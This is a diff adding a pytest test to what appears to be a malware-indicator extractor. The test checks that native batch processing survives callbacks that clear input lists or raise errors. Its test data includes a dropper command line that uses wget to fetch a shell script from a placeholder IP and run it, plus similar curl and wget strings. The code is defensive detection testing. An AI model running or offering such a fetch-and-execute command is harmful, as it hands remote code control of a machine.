@@ -313,3 +313,50 @@ def test_what_to_extract_in_c_refuses_what_is_not_bytes() -> None:
     for wrong in ("line", None, bytearray(b"x")):
         with pytest.raises(TypeError):
             native_jobs.what_to_extract(wrong, b"", b"")  # type: ignore[arg-type]
+
+
+def test_callers_that_change_things_under_it_get_an_answer_or_an_error_never_a_crash() -> None:
+    """Callbacks run while a batch is being read: a callback emptying the caller's list of jobs or
+    of texts reads copies, a failing callback raises, and a job given texts as an iterator (which
+    reading would use up) is left to Python whole."""
+    if not _built():
+        return
+    assert native_jobs.run_jobs is not None
+    native = anchored._native.run_jobs  # type: ignore[union-attr]
+    dropper = b"cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh"
+    texts = [dropper, b"curl http://example.net/a"]
+    jobs = [Job(texts, b"victim.example"), Job((dropper,), b"victim.example")]
+
+    def emptying_own_names(host: bytes) -> frozenset[str]:
+        jobs.clear()
+        texts.clear()
+        return collector.own_names(host)
+
+    found = native(jobs, layers, collector.host_class, downloads.download_ops, emptying_own_names, collector.Ioc)
+    assert [_plain(f) for f in found] == _python(
+        [Job((dropper, b"curl http://example.net/a"), b"victim.example"), Job((dropper,), b"victim.example")]
+    )
+
+    def no_set(host: bytes) -> list[str]:
+        return ["victim.example"]
+
+    two = [Job((dropper,), b"victim.example")] * 2
+    assert native(two, layers, collector.host_class, downloads.download_ops, no_set, collector.Ioc) == [None, None]
+
+    def failing(tool: bytes, args: bytes) -> object:
+        raise RuntimeError("callback failed")
+
+    with pytest.raises(RuntimeError, match="callback failed"):
+        native(
+            [Job((b"wget 203.0.113.9",), b"")],
+            layers,
+            collector.host_class,
+            failing,
+            collector.own_names,
+            collector.Ioc,
+        )
+
+    lazy = Job(iter([dropper]), b"victim.example")  # type: ignore[arg-type]
+    assert native([lazy], layers, collector.host_class, downloads.download_ops, collector.own_names, collector.Ioc) == [
+        None
+    ]
